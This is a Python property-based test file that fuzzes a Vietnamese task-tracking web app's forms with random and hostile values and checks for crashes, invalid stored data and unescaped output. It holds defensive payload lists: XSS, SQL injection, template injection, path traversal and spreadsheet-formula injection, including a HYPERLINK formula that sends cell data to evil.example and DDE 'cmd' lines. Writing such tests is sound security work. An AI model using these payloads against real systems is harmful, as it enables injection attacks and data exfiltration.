"""Property-based tests: random and hostile values posted to every form.

Whatever is sent — huge strings, control characters and NUL, HTML and script, SQL
fragments, numbers where text is expected and the reverse, repeated or missing
fields, uploads and JSON where a form is expected, Unicode oddities — the answer is
never a 500, the stored data stays valid, and what the user typed comes back escaped.
"""
import datetime as dt
import functools
import io
import re
import zipfile
import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape

from tests.helpers import get_task
from tracker.admin.forms import USERNAME
from tracker.forms import CONTROL_CHARACTERS
from tracker.models import (
    KINDS, QUARTER_STATES, SHARE_STATUSES, SIGNER_TITLES, STATUSES, UNIT_KINDS,
    USER_ROLES, Board, BriefingMeeting, ImportUpload, Organisation, Quarter,
    QuarterReport, Task, TaskUnit, TaskUpdate, Unit, User,
)
from tracker.reports.columns import BY_KEY, header
from tracker.reports.forms import CODE_PATTERN
from tracker.reports.imports import TOKEN_PATTERN
from tracker.tasks.forms import TaskForm

FUZZ = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
ANSWERS = {200, 302, 400, 403, 404, 405, 409, 413}

HOSTILE = [
    "", " ", "\x00", "a\x00b", "\x1b[31m", "\r\n\r\n", "\t",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<b>đậm</b>",
    "javascript:alert(1)", "{{ 7*7 }}", "{% raw %}", "${7*7}", "%(name)s", "%s%s%s",
    "' OR '1'='1", "'; DROP TABLE task; --", '" OR ""="', "1; SELECT pg_sleep(1)",
    "\\", "%", "_", "%%", "NULL", "None", "null", "true", "[]", "{}", "0", "-1",
    "1.5", "1e309", "NaN", "-0", "99999999999999999999999999", "0x1F", "٣", "１２",
    "\u202eabc", "\u200b", "\ufeff", "𝕳𝖊𝖑𝖑𝖔", "👩‍👩‍👧‍👦", "e\u0301", "Ǆ", "ß", "İ",
    "\ud7ff", "\uffff", "\ufffe", "../../etc/passwd", "/\\evil.example",
    "2023-02-30", "31/12/9999", "0000-00-00", "2023-13-01", "1900-01-01",
    "Đại hội đại biểu Hội Nông dân huyện lần thứ XII",
]
# Spreadsheet formulas (OWASP's CSV injection payloads and their kin): typed into any
# field, they must reach every export as text (see test_formulas_*).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=1+1", "+1+1", "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
    "'=1+1", "''@x", "#N/A", "=", "-", "+", "@",
]
HOSTILE += FORMULAS

text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=200, max_size=2000),
    st.builds(
        lambda piece, times: piece * times,
        st.sampled_from(["x", "<", "'", "é", "𝕏", "\u202e", "a\x00", " "]),
        st.integers(1, 12_000),
    ),
    st.integers().map(str),
    st.floats(allow_nan=True).map(str),
    st.dates().map(lambda d: d.isoformat()),
    st.dates().map(lambda d: d.strftime("%d/%m/%Y")),
)
# Numbers where numbers are expected: in range, out of range, beyond 64 bits.
ODD_NUMBERS = [
    "99999999999999999999999999", "9223372036854775808", "-9223372036854775809",
    "2147483648", "1" * 40, "0" * 40 + "1", " 7 ", "+5", "5.0", "1_000", "-0", "-1",
]
number = st.one_of(
    st.sampled_from(ODD_NUMBERS),
    st.integers(-10, 1_000_001).map(str),
    st.integers(-(10**30), 10**30).map(str),
)
# A value as posted: usually one string, sometimes several for one field.
value = st.one_of(text, text, number, st.lists(text, min_size=2, max_size=3))


def choice_or(valid, numeric=False):
    """Return valid values half of the time, anything else otherwise.

    A numeric field draws odd numbers (beyond 64 bits, signed, padded) as often as
    valid ones: they are where number handling breaks.
    """
    if numeric:
        odd_or_valid = st.sampled_from(list(valid) + ODD_NUMBERS)
        return st.one_of(odd_or_valid, number, number, value)
    return st.one_of(st.sampled_from(list(valid)), value)


def _drop(pair):
    data, missing = pair
    return {key: item for key, item in data.items() if key not in missing}


def form(fields, extra=True):
    """Return form data with the fields, a few of them left out now and then."""
    fields = dict(fields)
    if extra:
        fields["unexpected_field"] = value
    return st.tuples(
        st.fixed_dictionaries(fields), st.sets(st.sampled_from(sorted(fields)))
    ).map(_drop)


# ----------------------------------------------------------------- invariants

def stored_data_is_valid(db):
    """Check every stored row the forms can reach; return nothing, assert."""
    from tracker.models.board import BOARD_LEVELS, CODE_PATTERN as BOARD_CODE

    db.session.rollback()
    db.session.expire_all()
    for board in db.session.scalars(db.select(Board),
                                    execution_options={"all_boards": True}):
        assert BOARD_CODE.match(board.code), board.code
        assert board.name.strip() and len(board.name) <= 200
        assert not CONTROL_CHARACTERS.search(board.name)
        assert board.level in BOARD_LEVELS and board.parent_id != board.id
    for task in db.session.scalars(db.select(Task)):
        assert 0 <= task.progress <= 100, task
        assert task.title.strip() and len(task.title) <= 500, task
        assert task.status in STATUSES and task.kind in KINDS, task
        assert len(task.description) <= 10_000 and len(task.result) <= 10_000
        for name in ("title", "description", "result", "source_document",
                     "target_label", "campaign_name", "organisation", "audience",
                     "chair", "commune", "closing_note"):
            assert not CONTROL_CHARACTERS.search(getattr(task, name) or ""), name
        for name in ("target_count", "achieved_count", "delegates", "participants"):
            number = getattr(task, name)
            assert number is None or 0 <= number <= 1_000_000, (name, number)
        if task.status == "done":
            assert task.completed_on is not None and task.progress == 100
    for update in db.session.scalars(db.select(TaskUpdate)):
        assert update.new_progress is None or 0 <= update.new_progress <= 100
        assert len(update.note) <= 5000 and not CONTROL_CHARACTERS.search(update.note)
    for link in db.session.scalars(db.select(TaskUnit)):
        assert link.share_status in SHARE_STATUSES and len(link.share_note) <= 5000
    for quarter in db.session.scalars(db.select(Quarter)):
        assert 1 <= quarter.number <= 4 and 2000 <= quarter.year <= 2100
        assert quarter.state in QUARTER_STATES
    initiatives_are_valid(db)
    users_and_units_are_valid(db)
    reports_are_valid(db)
    no_nul_in_any_text_column(db)


def initiatives_are_valid(db):
    """Check the registry's models: their choices, texts and year."""
    from tracker.models.initiative import (
        INITIATIVE_FIELDS,
        INITIATIVE_STATES,
        RECOGNITION_LEVELS,
        Initiative,
    )

    for item in db.session.scalars(db.select(Initiative)):
        assert item.field in INITIATIVE_FIELDS and item.state in INITIATIVE_STATES
        assert 2000 <= item.year <= 2100 and item.count >= 1
        assert item.is_imported or _clean(item.name, 300, required=True) is None
        _clean(item.commune, 200)
        _clean(item.decision_number, 100)
        assert len(item.beneficiaries) <= 2000 and len(item.drop_reason) <= 2000
        if item.state == "recognised" and not item.is_imported:
            assert item.level in RECOGNITION_LEVELS and item.recognised_on
            assert item.decision_number.strip()
        if item.state == "dropped":
            assert item.dropped_on and item.drop_reason.strip()


def _clean(value, maximum, required=False):
    """Assert a stored text: within its length, no control characters."""
    assert value is not None and len(value) <= maximum, (maximum, value[:80])
    assert not CONTROL_CHARACTERS.search(value), value[:80]
    if required:
        assert value.strip(), repr(value)


def users_and_units_are_valid(db):
    """Accounts and units as the admin forms may leave them."""
    users = db.session.scalars(db.select(User)).all()
    for user in users:
        _clean(user.username, 60, required=True)
        assert USERNAME.match(user.username) and "\n" not in user.username, user
        _clean(user.full_name, 200)
        assert user.role in USER_ROLES, user.role
    assert any(u.role == "admin" and u.is_active for u in users), "no active admin"
    units = db.session.scalars(db.select(Unit)).all()
    parents = {unit.id: unit.parent_id for unit in units}
    for unit in units:
        _clean(unit.name, 200, required=True)
        _clean(unit.short_name, 60, required=True)
        assert unit.kind in UNIT_KINDS and 0 <= unit.sort_order <= 100_000, unit
        seen, current = set(), unit.id
        while current is not None:  # no unit under itself
            assert current not in seen, ("cycle", unit.id)
            seen.add(current)
            current = parents.get(current)


# "15-BC/BDVHU": ASCII digits, a dash, then capitals, digits, "/", "-", ".".
REPORT_NUMBER = re.compile(r"\A[0-9]{1,5}-[0-9A-ZĐ][0-9A-ZĐ/.\-]*\Z")


def reports_are_valid(db):
    """Report settings, the organisation and stored uploads as their forms save them."""
    for row in db.session.scalars(db.select(QuarterReport)):
        assert row.number == "" or REPORT_NUMBER.match(row.number), row.number
        assert len(row.number) <= 60, row.number
        _clean(row.place, 100)
        _clean(row.signer_name, 200)
        _clean(row.summary_line, 500)
        assert row.signer_title in SIGNER_TITLES, row.signer_title
        for name in ("recipients", "public_mood", "strengths", "shortcomings",
                     "proposals"):
            _clean(getattr(row, name), 20_000)
        _clean(row.lead_in, 5000)
    for meeting in db.session.scalars(db.select(BriefingMeeting)):
        for name in ("place", "chair_name", "chair_title"):
            _clean(getattr(meeting, name), 200)
        _clean(meeting.attendees, 5000)
        assert len(meeting.proposals) <= 30
        for proposal in meeting.proposals:
            _clean(proposal.addressee, 200)
            _clean(proposal.text, 5000, required=True)
    for org in db.session.scalars(db.select(Organisation)):
        _clean(org.superior_body, 200)
        _clean(org.issuing_body, 200)
        _clean(org.issuer_code, 30)
        assert org.issuer_code == "" or CODE_PATTERN.match(org.issuer_code)
        _clean(org.place, 100)
        _clean(org.signer_name, 200)
        _clean(org.recipients, 5000)
        assert org.unit_id is None or db.session.get(Unit, org.unit_id) is not None
    for upload in db.session.scalars(db.select(ImportUpload)):
        assert TOKEN_PATTERN.match(upload.token)
        _clean(upload.filename, 255)


def no_nul_in_any_text_column(db):
    """No NUL in any text column of any table (PostgreSQL refuses it anyway).

    Asked of the database, one statement per table, built once: reading every text
    of every row into Python after each example cost more than the request it checked.
    """
    connection = db.session.connection()
    for name, statement in _nul_queries(db, connection.dialect.name):
        hit = connection.execute(statement).first()
        assert hit is None, (name, hit)


@functools.cache
def _nul_queries(db, dialect):
    """Return (table name, statement finding a row with a NUL) for each table."""
    queries = []
    for table in db.metadata.sorted_tables:
        found = []
        for column in table.columns:
            if isinstance(column.type, db.JSON):
                # JSON holds a NUL as the escape "\u0000" in its text.
                found.append(db.cast(column, db.Text).contains("\\u0000",
                                                               autoescape=True))
            elif (isinstance(column.type, (db.String, db.Text))
                  and dialect != "postgresql"):
                found.append(db.func.instr(column, db.func.char(0)) > 0)
        if found:
            queries.append((table.name, db.select(*table.primary_key.columns)
                            .where(db.or_(*found)).limit(1)))
    return tuple(queries)


TAG = re.compile(r"<[a-z/!]", re.I)


def typed_text_is_escaped(response, data):
    """Assert no submitted markup comes back raw in an HTML answer."""
    if not response.content_type.startswith("text/html"):
        return
    html = response.get_data(as_text=True)
    for posted in data.values():
        for item in posted if isinstance(posted, list) else [posted]:
            if isinstance(item, str) and TAG.search(item) and len(item) < 5000:
                assert item not in html, f"raw markup in the page: {item[:80]!r}"


def post_and_check(client, db, path, data, extra_pages=()):
    """Post, then check the answer, the stored data and the pages that show it."""
    response = client.post(path, data=data)
    assert response.status_code in ANSWERS, (response.status_code, path, data)
    typed_text_is_escaped(response, data)
    if response.status_code == 302:
        location = response.headers["Location"]
        if location.startswith("/") and not location.startswith("/login"):
            page = client.get(location)
            assert page.status_code in ANSWERS
            typed_text_is_escaped(page, data)
    for extra in extra_pages:
        page = client.get(extra)
        assert page.status_code in (200, 404), extra
        typed_text_is_escaped(page, data)
    stored_data_is_valid(db)
    return response


@pytest.fixture
def admin(client, login_as, demo):
    """Sign in as an administrator on the demo data (every form is open to them)."""
    return login_as("admin")


@pytest.fixture
def ids(demo):
    """Return the ids of demo tasks, found once (fuzzed edits may rename them)."""
    congress = get_task("Hội Nông dân huyện lần thứ XII")
    shared = get_task("nghiêm túc Quy chế dân chủ")
    return {
        "congress": congress.id,
        "congress_lead": congress.lead_unit_id,
        "training": get_task("Lớp tập huấn nghiệp vụ").id,
        "shared": shared.id,
        "share_units": [str(link.unit_id) for link in shared.participants_links],
    }


# ----------------------------------------------------------------- the routes

@FUZZ
@given(data=form({"username": value, "password": value, "remember": value}),
       next_=st.one_of(st.none(), text))
def test_login(client, demo, db, data, next_):
    path = "/login" if next_ is None else "/login?next=" + next_.replace("\x00", "")
    response = post_and_check(client, db, path, data)
    if response.status_code == 302:
        location = response.headers["Location"]
        assert location.startswith("/") and not location.startswith("//")
        client.post("/logout")


@FUZZ
@given(data=form({"year": choice_or(["2024", "2031", "2099"], numeric=True),
                  "number": choice_or(["1", "2", "3", "4"], numeric=True)}))
def test_quarter_create(client, admin, db, data):
    post_and_check(client, db, "/quarters/new", data, extra_pages=["/quarters/"])


TASK_FIELDS = [name for name in vars(TaskForm) if not name.startswith("_")
               and hasattr(getattr(TaskForm, name), "field_class")]


TEXT_FIELDS = ("title", "description", "result", "source_document", "target_label",
               "campaign_name", "organisation", "audience", "chair", "commune")
UNIT_IDS = [str(i) for i in range(1, 30)]  # the demo's units have small ids


def task_form(text_only=False):
    """Return task forms: anything anywhere, or (text_only) valid numbers with
    hostile text, which gets past validation so that hostile text is stored and shown.
    """
    units = st.one_of(value, st.lists(st.sampled_from(UNIT_IDS), max_size=3))
    anything = {name: value for name in TASK_FIELDS}
    anything.update(
        kind=choice_or(KINDS),
        lead_unit_id=choice_or(UNIT_IDS, numeric=True),
        coordinating=units, participating=units,
        target_count=choice_or(["", "11"], numeric=True),
    )
    hostile_text = st.builds(
        lambda core, texts: {**core, **texts},
        st.fixed_dictionaries({
            "kind": st.sampled_from(list(KINDS)),
            "title": st.one_of(
                text, st.sampled_from(["Nhiệm vụ <b>mới</b>", "Nhiệm vụ"])
            ),
            "lead_unit_id": st.sampled_from(UNIT_IDS[:19]),
            "participating": st.lists(st.sampled_from(UNIT_IDS[:19]), max_size=2),
        }),
        st.dictionaries(st.sampled_from(TEXT_FIELDS[1:]), text, max_size=3),
    )
    return hostile_text if text_only else form(anything)


@FUZZ
@given(data=task_form(),
       key=st.one_of(st.sampled_from(["2023-Q2", "2023-Q1", "2022-Q4"]), text))
def test_task_create(client, admin, db, data, key):
    path = "/tasks/new?quarter=" + key.replace("\x00", "").replace("&", "")
    post_and_check(client, db, path, data, extra_pages=["/quarters/2023-Q2/"])


@FUZZ
@given(data=task_form(text_only=True))
def test_task_create_with_hostile_text(client, admin, db, data):
    post_and_check(client, db, "/tasks/new?quarter=2023-Q2", data,
                   extra_pages=["/quarters/2023-Q2/"])


@FUZZ
@given(data=st.one_of(task_form(), task_form(text_only=True)))
def test_task_edit(client, admin, db, ids, data):
    post_and_check(client, db, f"/tasks/{ids['congress']}/edit", data,
                   extra_pages=[f"/units/{ids['congress_lead']}"])


PAST_DATES = st.dates(max_value=dt.date(2023, 5, 15)).map(lambda d: d.isoformat())


@FUZZ
@given(data=st.one_of(
    form({"status": choice_or(STATUSES), "progress": choice_or(
        ["0", "50", "100", "101", "-1"], numeric=True), "completed_on": value,
        "note": value}),
    form({"status": st.sampled_from(list(STATUSES)),
          "progress": st.integers(0, 100).map(str),
          "completed_on": st.one_of(st.just(""), PAST_DATES), "note": text}),
))
def test_progress(client, admin, db, ids, data):
    post_and_check(client, db, f"/tasks/{ids['training']}/status", data,
                   extra_pages=["/quarters/2023-Q2/"])


@FUZZ
@given(draw=st.data())
def test_share(client, admin, db, ids, draw):
    taking_part = st.sampled_from(ids["share_units"])
    data = draw.draw(st.one_of(
        form({"unit_id": st.one_of(taking_part, choice_or(UNIT_IDS, numeric=True)),
              "share_status": choice_or(SHARE_STATUSES), "share_done_on": value,
              "share_note": value}),
        form({"unit_id": taking_part,
              "share_status": st.sampled_from(list(SHARE_STATUSES)),
              "share_done_on": st.one_of(st.just(""), PAST_DATES), "share_note": text}),
    ))
    post_and_check(client, db, f"/tasks/{ids['shared']}/share", data)


@FUZZ
@given(data=st.dictionaries(
    st.one_of(st.sampled_from(["carry_all", "action-1", "action-2", "action-3",
                               "note-1", "note-2", "note-3", "action-999"]),
              st.text(max_size=10).map(lambda k: k.replace("\x00", "") or "k")),
    st.one_of(st.sampled_from(["carry", "cancelled", "not_needed"]), value),
    max_size=6,
))
def test_close(client, admin, db, data):
    post_and_check(client, db, "/quarters/2023-Q1/close", data,
                   extra_pages=["/quarters/2023-Q1/rollover",
                                "/quarters/2023-Q1/summary"])


@FUZZ
@given(data=form({"anything": value}))
def test_approve(client, admin, db, data):
    post_and_check(client, db, "/quarters/2023-Q1/approve", data)


@FUZZ
@given(data=form({"reason": value}), close_first=st.booleans())
def test_reopen(client, admin, db, data, close_first):
    if close_first:
        client.post("/quarters/2023-Q1/close", data={"carry_all": "1"})
    post_and_check(client, db, "/quarters/2023-Q1/reopen", data,
                   extra_pages=["/quarters/2023-Q1/summary"])


@FUZZ
@given(data=form({"state": choice_or(["planning", "active", "closed"])}),
       key=st.sampled_from(["2023-Q1", "2023-Q2"]))
def test_state_change(client, admin, db, data, key):
    post_and_check(client, db, f"/quarters/{key}/state", data)


@FUZZ
@given(data=form({"current_password": value, "new_password": value, "confirm": value}))
def test_change_password(client, admin, db, data):
    post_and_check(client, db, "/account/password", data)


@FUZZ
@given(query=st.dictionaries(st.sampled_from(["q", "unit", "kind", "status", "lang"]),
                             text.map(lambda t: t.replace("\x00", "")), max_size=4))
def test_board_filters(client, admin, db, query):
    response = client.get("/quarters/2023-Q2/", query_string=query)
    assert response.status_code in ANSWERS
    typed_text_is_escaped(response, query)


@FUZZ
@given(data=form({"anything": value}))
def test_logout(client, admin, db, data):
    post_and_check(client, db, "/logout", data)
    client.post("/login", data={"username": "admin_user", "password": "secret-pass"})


# ----------------------------------------------------------------- tasks: direction,
# archive and restore


@FUZZ
@given(data=st.one_of(form({"direction": value}), form({"direction": text}, False)))
def test_direction(client, admin, db, ids, data):
    post_and_check(client, db, f"/tasks/{ids['training']}/direction", data,
                   extra_pages=[f"/tasks/{ids['training']}"])


@FUZZ
@given(data=st.one_of(form({"reason": value}), form({"reason": text}, False)),
       action=st.sampled_from(["archive", "restore"]))
def test_archive_and_restore(client, admin, db, ids, data, action):
    post_and_check(client, db, f"/tasks/{ids['congress']}/{action}", data,
                   extra_pages=[f"/tasks/{ids['congress']}"])


# ----------------------------------------------------------------- administration


def _user_id(db, username):
    return db.session.scalar(db.select(User.id).where(User.username == username))


@pytest.fixture
def units(demo):
    """Return the demo units' ids by short name, found once (fuzzed edits rename)."""
    return {unit.short_name: str(unit.id)
            for unit in demo.session.scalars(demo.select(Unit).order_by(Unit.id))}


ROLES = list(USER_ROLES)
USERNAMES = st.one_of(
    text,
    st.text(alphabet=string.ascii_letters + string.digits + "._-\n ", max_size=70),
    st.sampled_from(["quantri", "QUANTRI", "admin_user", "a", "ab", "x" * 60, "x" * 61,
                     "ab\n", " ab ", "ab\x00", "ab\u0131", "ａｂ"]),
)


@FUZZ
@given(draw=st.data())
def test_admin_new_user(client, admin, db, units, draw):
    units = st.one_of(value, st.lists(st.sampled_from(list(units.values())),
                                      max_size=3))
    password = st.one_of(st.just("secret-pass-1"), value)
    data = draw.draw(form({
        "username": USERNAMES, "full_name": value, "role": choice_or(ROLES),
        "units": units, "password": password, "confirm": password,
    }))
    post_and_check(client, db, "/admin/users/new", data, extra_pages=["/admin/users/"])


@FUZZ
@given(draw=st.data(), target=st.sampled_from(
    ["canbo_bdv", "quantri", "khach", "admin_user"]))
def test_admin_edit_user(client, admin, db, units, draw, target):
    units = st.one_of(value, st.lists(st.sampled_from(list(units.values())),
                                      max_size=3))
    data = draw.draw(st.one_of(
        form({"full_name": value, "role": choice_or(ROLES), "units": units}),
        form({"full_name": text, "role": st.sampled_from(ROLES)}, extra=False),
    ))
    user_id = _user_id(db, target)
    post_and_check(client, db, f"/admin/users/{user_id}", data,
                   extra_pages=["/admin/users/", "/admin/audit"])


@FUZZ
@given(data=form({"password": value, "confirm": value}),
       target=st.sampled_from(["canbo_bdv", "quantri", "khach"]))
def test_admin_reset_password(client, admin, db, data, target):
    # Not the signed-in account: a new password ends its own session.
    post_and_check(client, db, f"/admin/users/{_user_id(db, target)}/password", data)


@FUZZ
@given(data=form({"anything": value}), action=st.sampled_from(
    ["deactivate", "reactivate"]), target=st.sampled_from(
    ["canbo_bdv", "quantri", "khach", "admin_user", None]))
def test_admin_user_active(client, admin, db, data, action, target):
    user_id = _user_id(db, target) if target else 99999
    post_and_check(client, db, f"/admin/users/{user_id}/{action}", data,
                   extra_pages=["/admin/users/"])


def unit_form(units):
    """Return unit forms: anything anywhere, or valid choices with hostile names."""
    parents = ["0"] + list(units.values())
    return st.one_of(
        form({"name": value, "short_name": value, "kind": choice_or(UNIT_KINDS),
              "parent_id": choice_or(parents, numeric=True),
              "sort_order": choice_or(["0", "5", "100000"], numeric=True)}),
        form({"name": text, "short_name": text,
              "kind": st.sampled_from(list(UNIT_KINDS)),
              "parent_id": st.sampled_from(parents),
              "sort_order": st.integers(0, 100_000).map(str)}, extra=False),
    )


@FUZZ
@given(draw=st.data())
def test_admin_new_unit(client, admin, db, units, draw):
    data = draw.draw(unit_form(units))
    post_and_check(client, db, "/admin/units/new", data, extra_pages=[
        "/admin/units/", "/units/", "/admin/users/new"])


@FUZZ
@given(draw=st.data(), target=st.sampled_from(["HND", "MTTQ", "BTVHU"]))
def test_admin_edit_unit(client, admin, db, units, draw, target):
    data = draw.draw(unit_form(units))
    unit_id = units[target]
    post_and_check(client, db, f"/admin/units/{unit_id}", data, extra_pages=[
        "/admin/units/", f"/units/{unit_id}"])


@FUZZ
@given(data=form({"anything": value}), action=st.sampled_from(
    ["deactivate", "reactivate"]), which=st.sampled_from(["BDV", "HND", "ĐTN", None]))
def test_admin_unit_active(client, admin, db, units, data, action, which):
    unit_id = units[which] if which else "99999"
    post_and_check(client, db, f"/admin/units/{unit_id}/{action}", data,
                   extra_pages=["/admin/units/"])


def group_form(units):
    """Return group forms: anything anywhere, or valid members with hostile names."""
    members = [units[short] for short in ("HND", "MTTQ", "ĐU Tịnh Hà")]
    return st.one_of(
        form({"name": value, "short_name": value,
              "members": choice_or(members + [units["Khối DV"]], numeric=True),
              "sort_order": choice_or(["0", "5", "100000"], numeric=True)}),
        form({"name": text, "short_name": text,
              "members": st.lists(st.sampled_from(members), min_size=1, max_size=3),
              "sort_order": st.integers(0, 100_000).map(str)}, extra=False),
    )


@FUZZ
@given(draw=st.data())
def test_admin_new_group(client, admin, db, units, draw):
    data = draw.draw(group_form(units))
    post_and_check(client, db, "/admin/groups/new", data, extra_pages=[
        "/admin/groups/", "/admin/units/", "/units/"])


@FUZZ
@given(draw=st.data(), target=st.sampled_from(["Khối DV", "Các cơ sở", "HND"]))
def test_admin_edit_group(client, admin, db, units, draw, target):
    data = draw.draw(group_form(units))
    post_and_check(client, db, f"/admin/groups/{units[target]}", data, extra_pages=[
        "/admin/groups/", "/admin/units/"])


# ----------------------------------------------------------------- boards


@pytest.fixture
def boards_admin(client, demo):
    """Sign in as the demo's installation administrator (manages every board)."""
    response = client.post("/login", data={"username": "quantri", "password": "demo"})
    assert response.status_code == 302


@pytest.fixture
def boards(demo):
    """Return the demo boards' ids by code, found once."""
    return {board.code: str(board.id)
            for board in demo.session.scalars(demo.select(Board).order_by(Board.id))}


LEVELS = ["province", "district", "commune"]
CODES = st.one_of(value, st.sampled_from(
    ["tinh-an", "son-tinh", "a", "a-", "-a", "A", "x" * 40, "x" * 41, "tịnh", "a b"]))
QUARTER_KEYS = st.one_of(value, st.sampled_from(
    ["2023-Q3", "2023-Q1", "2024-Q1", "2023-Q5", "1999-Q1", "2023Q3", "q3-2023"]))


def board_form(boards):
    parents = [""] + list(boards.values())
    return form({"name": value, "code": CODES, "level": choice_or(LEVELS),
                 "parent_id": choice_or(parents, numeric=True),
                 "sort_order": choice_or(["0", "5", "100000"], numeric=True)})


@FUZZ
@given(draw=st.data())
def test_board_new(client, boards_admin, db, boards, draw):
    post_and_check(client, db, "/admin/boards/new", draw.draw(board_form(boards)),
                   extra_pages=["/admin/boards/", "/boards/"])


@FUZZ
@given(draw=st.data(), target=st.sampled_from(["son-tinh", "binh-son", "quang-ngai"]))
def test_board_edit(client, boards_admin, db, boards, draw, target):
    post_and_check(client, db, f"/admin/boards/{boards[target]}",
                   draw.draw(board_form(boards)), extra_pages=["/admin/boards/"])


@FUZZ
@given(draw=st.data(), target=st.sampled_from(["son-tinh", "binh-son", "quang-ngai"]))
def test_board_merge(client, boards_admin, db, boards, draw, target):
    data = draw.draw(form({"into": choice_or(list(boards.values()), numeric=True),
                           "from_key": QUARTER_KEYS}))
    post_and_check(client, db, f"/admin/boards/{boards[target]}/merge", data,
                   extra_pages=["/admin/boards/"])


@FUZZ
@given(draw=st.data(), target=st.sampled_from(["son-tinh", "binh-son", "quang-ngai"]))
def test_board_members(client, boards_admin, db, boards, draw, target):
    data = draw.draw(form({"username": st.one_of(USERNAMES, st.sampled_from(
        ["lanhdao", "lanhdao_binhson", "quantri"])), "role": choice_or(ROLES)}))
    post_and_check(client, db, f"/admin/boards/{boards[target]}/members", data,
                   extra_pages=[f"/admin/boards/{boards[target]}"])


@FUZZ
@given(data=form({"anything": value}), member=st.sampled_from(["1", "99999", "-1"]),
       target=st.sampled_from(["son-tinh", "binh-son"]))
def test_board_member_removal(client, boards_admin, db, boards, data, member, target):
    post_and_check(client, db, f"/admin/boards/{boards[target]}/members/{member}/remove",
                   data, extra_pages=["/admin/boards/"])


# ----------------------------------------------------------------- reports


NUMBERS = st.one_of(
    value, st.sampled_from([
        "15-BC/BDVHU", "Số: 5-BC/BDVHU", "5-" + "B" * 58, "5-" + "B" * 59, "٣-BC",
        "15-bc/bdvhu", "15-ß", "15-ﬀ" * 20, "15-BC\n", "15-BC/X\x00", "-BC", "123456-B",
    ]),
    st.builds(lambda n, tail: f"{n}-{tail}", st.integers(0, 99999),
              st.text(alphabet="ABCĐ0123/.-ßﬀ ", min_size=1, max_size=70)),
)


@FUZZ
@given(data=st.one_of(
    form({"number": NUMBERS, "issued_on": value,
          "place": value, "signer_name": value,
          "signer_title": choice_or(SIGNER_TITLES),
          "summary_line": value, "recipients": value, "public_mood": value,
          "strengths": value, "shortcomings": value, "proposals": value}),
    form({"number": NUMBERS, "signer_title": st.sampled_from(list(SIGNER_TITLES)),
          "place": text, "signer_name": text, "summary_line": text,
          "recipients": text, "strengths": text}, extra=False),
))
def test_report_settings(client, admin, db, data):
    post_and_check(client, db, "/quarters/2023-Q2/report", data,
                   extra_pages=["/quarters/2023-Q2/print"])


@FUZZ
@given(data=st.one_of(
    form({"briefing_on": value, "place": value, "chair_name": value,
          "chair_title": value, "attendees": value,
          "proposals-0-addressee": value, "proposals-0-text": value,
          "proposals-7-text": value, "proposals-99999999999-text": value,
          "proposals-x-addressee": value}),
    form({"briefing_on": st.sampled_from(["30/06/2023", "2023-07-03"]),
          "place": text, "chair_name": text, "chair_title": text, "attendees": text,
          "proposals-0-addressee": text, "proposals-0-text": text,
          "proposals-1-text": text}, extra=False),
))
def test_briefing_meeting(client, admin, db, data):
    post_and_check(client, db, "/quarters/2023-Q2/briefing", data,
                   extra_pages=["/quarters/2023-Q2/print", "/quarters/2023-Q2/report"])


# Non-blank text, so that forms with required fields get past them and store it.
filled = st.one_of(st.sampled_from([h for h in HOSTILE if h.strip()]),
                   st.text(min_size=1, max_size=40).filter(str.strip))
CODES = st.one_of(value, st.sampled_from(
    ["BDVHU", "bdvhu", "ß" * 30, "ﬀ" * 20, "Đ" * 30, "B" * 31, "BD VHU", "BDV\n"]))


@FUZZ
@given(draw=st.data())
def test_organisation(client, admin, db, units, draw):
    units = ["0"] + list(units.values())
    data = draw.draw(st.one_of(
        form({"superior_body": value, "issuing_body": value, "issuer_code": CODES,
              "place": value, "unit_id": choice_or(units, numeric=True),
              "signer_name": value, "recipients": value}),
        st.fixed_dictionaries({
            "superior_body": filled, "issuing_body": filled, "issuer_code": CODES,
            "place": filled, "unit_id": st.sampled_from(units), "signer_name": text,
            "recipients": text}),
    ))
    post_and_check(client, db, "/reports/organisation", data,
                   extra_pages=["/quarters/2023-Q2/report"])


# ----------------------------------------------------------------- plan import

IMPORT_KEYS = ("kind", "title", "lead_unit", "description", "result",
               "source_document", "target_label")


def _plan_rows(cells):
    """Return a plan's rows: the Vietnamese header, then the given rows."""
    return [[header(BY_KEY[key]) for key in IMPORT_KEYS]] + cells


def _csv(rows, encoding="utf-8-sig"):
    import csv

    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding, errors="surrogatepass")


def _xlsx(rows):
    from openpyxl import Workbook

    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


VALID_PLAN = _plan_rows([["training", "Lớp tập huấn mới", "BDV", "", "", "", ""]])
VALID_XLSX = _xlsx(VALID_PLAN)


def _zip(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            # zipfile cuts a name at NUL; an empty member name would crash it.
            archive.writestr(name.split("\x00")[0] or "x", data)
    return buffer.getvalue()


def _flip(content, at, byte):
    at %= len(content)
    return content[:at] + bytes([byte]) + content[at + 1:]


hostile_row = st.tuples(
    st.sampled_from(list(KINDS)), filled, st.sampled_from(["BDV", "HND", "bdv", "?"]),
    text, text, text, st.one_of(st.just(""), text),
).map(list)
plan_file = st.one_of(
    st.binary(max_size=3000),
    st.integers(0, len(VALID_XLSX)).map(lambda n: VALID_XLSX[:n]),
    st.builds(_flip, st.just(VALID_XLSX), st.integers(0, 10**6), st.integers(0, 255)),
    st.lists(st.tuples(st.text(max_size=30), st.binary(max_size=200)),
             max_size=4).map(_zip),
    st.builds(lambda tail: b"PK\x03\x04" + tail, st.binary(max_size=200)),
    st.builds(lambda tail: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + tail,
              st.binary(max_size=100)),
    st.lists(hostile_row, min_size=1, max_size=3).map(
        lambda rows: _csv(_plan_rows(rows))),
